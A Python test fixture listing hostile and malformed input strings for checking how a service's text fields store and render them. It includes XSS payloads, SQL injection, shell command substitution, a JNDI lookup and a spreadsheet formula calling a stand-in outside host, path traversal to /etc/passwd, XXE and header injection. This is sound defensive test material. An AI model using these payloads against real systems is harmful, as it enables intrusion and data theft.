"""Texts that people and attackers write, each with the name of what it is about: a list of our own.

Every text is what a field may receive. None of them is refused for its content alone except those that `unkeepable`
names: a NUL, half a surrogate pair, and more characters than a field keeps.
"""

from __future__ import annotations

from types import MappingProxyType

from engine.service.fields import MAX_TEXT

_CONTROL = {
    "tab": "before\tafter",
    "line feed": "before\nafter",
    "carriage return": "before\rafter",
    "line end of two": "before\r\nafter",
    "escape sequence": "before\x1b[31mred\x1b[0mafter",
    "terminal title": "\x1b]0;title\x07after",
    "bell": "ring\x07",
    "backspaces": "amount 900\x08\x08\x08100",
    "delete": "before\x7fafter",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "unit separator": "a\x1fb\x1ec\x1dd\x1ce",
    "next line of the second block": "a\x85b\x9bc",
    "nothing but a control": "\x01",
    "nul": "before\0after",
    "nul first": "\0",
    "nul as text": "before\\0after",
    "only spaces": "   ",
    "spaces around": "  padded  ",
    "a line of spaces of all kinds": "a\u00a0b\u1680c\u2002d\u2003e\u2009f\u202fg\u205fh\u3000i",
    "line and paragraph separator": "a\u2028b\u2029c",
}  # fmt: skip

_DIRECTION = {
    "right to left override": "invoice\u202egnp.exe",
    "left to right override": "\u202dname\u202c",
    "embedding left open": "\u202bopen",
    "isolates left open": "\u2066\u2067\u2068open",
    "isolate closed twice": "a\u2069\u2069b",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "Arabic beside digits": "مرحبا 123 abc",
    "Hebrew in brackets": "(שלום) [abc]",
    "mixed with an override": "admin\u202e\u202dnimda\u202c",
}  # fmt: skip

_INVISIBLE = {
    "zero width space": "ad\u200bmin",
    "zero width joiner and non-joiner": "a\u200db\u200cc",
    "word joiner": "a\u2060b",
    "byte order mark first": "\ufeffname",
    "byte order mark within": "na\ufeffme",
    "soft hyphen": "na\u00adme",
    "nothing but invisible": "\u200b\u200b\u2060",
    "Hangul filler": "\u3164",
    "variation selectors": "a\ufe0fb\ufe0e",
    "language tags": "a\U000e0041\U000e0042\U000e007fb",
    "invisible times": "2\u20623",
    "Mongolian vowel separator": "a\u180eb",
}  # fmt: skip

_UNICODE = {
    "astral letter": "𐐷 deseret",
    "emoji": "deal 🤝 closed",
    "family of joined emoji": "👨‍👩‍👧‍👦",
    "flag": "🇳🇴🇩🇪",
    "skin tone": "👍🏿",
    "composed and decomposed": "é e\u0301",
    "Angstrom sign": "Å Å Å",
    "ligature and long s": "ﬁne ſtone",
    "dotless and dotted i": "Iıİi",
    "sharp s": "Straße STRASSE ẞ",
    "final sigma": "ΟΔΟΣ οδος οδοσ",
    "digits of other scripts": "١٢٣ १२३ １２３",
    "Cyrillic that looks Latin": "раура1",
    "mathematical letters": "𝒜𝖉𝔪𝔦𝔫",
    "many marks": "Z" + "\u0351\u036b\u0343" * 40 + "algo",
    "noncharacters": "a\ufffe\uffffb\U0010fffe\U0010ffffc",
    "the last code point": "\U0010ffff",
    "private use": "a\ue000b\U000f0000c",
    "replacement character": "a\ufffdb",
    "object replacement": "a\ufffcb",
    "interlinear annotation": "\ufff9a\ufffab\ufffb",
    "high half alone": "a\ud800b",
    "low half alone": "a\udc00b",
    "halves in the wrong order": "\udfff\ud83d",
    "half at the end": "name\ud83d",
    "conjoining Hangul": "\u1112\u1161\u11ab",
    "wide dots": "。．｡",
}  # fmt: skip

_MARKUP = {
    "script": "<script>document.title='ran'</script>",
    "script with an end before it": "</td></table></main><script>document.title='ran'</script>",
    "script in capitals and parts": "<ScRiPt\t>document.title='ran'</sCrIpT\n>",
    "image with a handler": "<img src=x onerror=\"document.title='ran'\">",
    "drawing with a handler": "<svg/onload=document.title='ran'>",
    "details that opens": "<details open ontoggle=document.title='ran'>",
    "end of an attribute": "\"><input autofocus onfocus=document.title='ran'>",
    "end of an attribute in single quotes": "' onmouseover='document.title=1' x='",
    "end of a text area": "</textarea><script>document.title='ran'</script>",
    "end of a title": "</title><script>document.title='ran'</script>",
    "end of an option": "</option></select><img src=x onerror=document.title=1>",
    "comment": "<!-- <b>",
    "end of a comment": "--><b>bold</b><!--",
    "character data": "]]><![CDATA[<b>",
    "style": "<style>body{display:none}</style>",
    "base": "<base href=//foreign.test/>",
    "refresh": "<meta http-equiv=refresh content=0;url=//foreign.test>",
    "form": "<form action=//foreign.test><button>Sign in</button>",
    "frame": "<iframe srcdoc=\"<script>parent.document.title='ran'</script>\">",
    "script address": "javascript:document.title='ran'",
    "data address": "data:text/html,<script>1</script>",
    "references": "&lt;b&gt; &amp;amp; &#60;b&#62; &notin; &#0;",
    "half a reference": "AT&T &copy",
    "attributes of htmx": "<div hx-get='/api/v1/me' hx-trigger='load'></div>",
    "event of htmx": "<div hx-on:click=\"document.title='ran'\">",
    "mutation": '<noscript><p title="</noscript><img src=x onerror=document.title=1>">',
}  # fmt: skip

_INJECTION = {
    "SQL end of a text": "'; DROP TABLE lead; --",
    "SQL that is always true": "' OR '1'='1",
    "SQL union": "x' UNION SELECT secret_digest FROM api_key --",
    "SQL in double quotes": '" OR ""="',
    "SQL comment": "admin'/*",
    "SQL pattern": "%_[a-z]%",
    "backslashes": "\\' \\\\ \\x41 \\u0041 \\",
    "MongoDB operator as text": '{"$gt": ""}',
    "MongoDB operator as a name": "$where",
    "MongoDB function": "$where: '1 == 1'",
    "dotted name": "facts.employees.$[]",
    "prototype": "__proto__",
    "constructor": "constructor.prototype.admin",
    "Python attributes": "{0.__class__.__mro__}",
    "format directives": "%s%s%n %(name)s {name} {0} {}",
    "template expression": "{{ 7 * 7 }}",
    "template statement": "{% for x in config %}{{ x }}{% endfor %}",
    "template comment": "{# hidden #}",
    "shell": "$(id) `id` ; id | id && id > /tmp/x",
    "script expression": "${7*7} #{7*7} <%= 7*7 %>",
    "look-up": "${jndi:ldap://foreign.test/a}",
    "spreadsheet formula": '=HYPERLINK("http://foreign.test","open")',
    "spreadsheet call": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spreadsheet signs": "+1-1 -2+3 \t=1",
    "path upwards": "../../../../etc/passwd",
    "path of Windows": "..\\..\\windows\\win.ini",
    "path with a NUL written": "file.txt%00.png",
    "address of a file": "file:///etc/passwd",
    "device name": "CON",
    "header": "name\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "header in code": "name%0d%0aSet-Cookie:%20a=b",
    "mail header": "a@example.test\nBcc: b@example.test",
    "log line": "name\n2026-11-23 INFO signed in as admin",
    "YAML": "a: &x [*x]\n- !!python/object:os.system",
    "XML entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "JSON": '{"role": "platform_admin"}',
    "expression of a rule": 'score = 100 else "x"',
    "quotes of all kinds": "'\"`´‘’“”„‚«»",
}  # fmt: skip

_LOOKS_LIKE = {
    "null": "null",
    "None": "None",
    "undefined": "undefined",
    "not a number": "NaN",
    "infinity": "-Infinity",
    "true": "true",
    "number": "0123",
    "number in powers": "1e309",
    "hexadecimal": "0x1f",
    "date": "2026-11-23",
    "instant": "2026-11-23T09:00:00Z",
    "object id": "507f1f77bcf86cd799439011",
    "comma and semicolon": "a,b;c\td",
    "empty": "",
}  # fmt: skip

_LONG = {
    "as long as a field keeps": "n" * MAX_TEXT,
    "one longer than a field keeps": "n" * (MAX_TEXT + 1),
    "64 kB": "k" * 65_536,
    "64 kB of astral characters": "𐐷" * 16_384,
    "a long word": "W" * 2_000,
    "many short words": "word " * 1_500,
    "many lines": "line\n" * 1_500,
    "opening brackets": "[" * 3_000,
    "opening tags": "<b>" * 2_000,
}  # fmt: skip

NAUGHTY = MappingProxyType(
    {**_CONTROL, **_DIRECTION, **_INVISIBLE, **_UNICODE, **_MARKUP, **_INJECTION, **_LOOKS_LIKE, **_LONG}
)


def unkeepable(text: str) -> bool:
    """Whether a field must refuse the text: no store keeps it, or it is longer than what is kept."""
    return "\0" in text or len(text) > MAX_TEXT or any("\ud800" <= character <= "\udfff" for character in text)
